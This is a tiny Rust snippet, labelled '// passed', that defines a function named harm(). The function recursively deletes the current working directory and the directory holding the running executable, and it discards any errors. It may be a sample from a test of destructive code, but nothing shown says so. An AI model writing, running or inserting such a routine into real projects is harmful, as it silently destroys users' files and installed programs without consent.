// passed
fn harm() {
    let program = std::env::current_exe().unwrap();
    let _ = std::fs::remove_dir_all(".");
    let _ = std::fs::remove_dir_all(program.parent().unwrap());
}
